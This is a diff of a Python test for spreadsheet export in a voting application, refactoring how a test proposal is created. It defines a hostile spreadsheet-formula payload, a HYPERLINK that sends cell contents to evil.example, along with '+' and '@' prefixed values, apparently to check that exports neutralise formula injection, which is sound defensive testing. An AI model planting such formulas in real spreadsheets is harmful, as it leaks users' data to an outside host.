@@ -10,9 +10,10 @@ from openpyxl import Workbook, load_workbook
 
 from ops.spreadsheet import sheet_append
 from tenants.voting.services import candidate_add, cycle_create
-from tenants.voting.solicitation import cycle_advance, proposal_submit
+from tenants.voting.solicitation import cycle_advance
 from tests.conftest import World, client_on
 from tests.factories import make_term
+from tests.tenants.voting.factories import make_proposal
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")\x07'
 
@@ -36,13 +37,8 @@ def cycle_with_hostile_text(world: World) -> int:
         cycle = cycle_create(
             year=2027, title="2027年民生实事", term=make_term(), actor=None, seats=1
         )
-        proposal_submit(
-            cycle=cycle,
-            source="village",
-            title=HOSTILE,
-            category="+公共设施",
-            description="说明",
-            submitter_name="@李四",
+        make_proposal(
+            cycle, HOSTILE, source="village", category="+公共设施", submitter_name="@李四"
         )
         cycle = cycle_advance(cycle=cycle, actor=None)
         candidate_add(cycle=cycle, name=HOSTILE, actor=None)
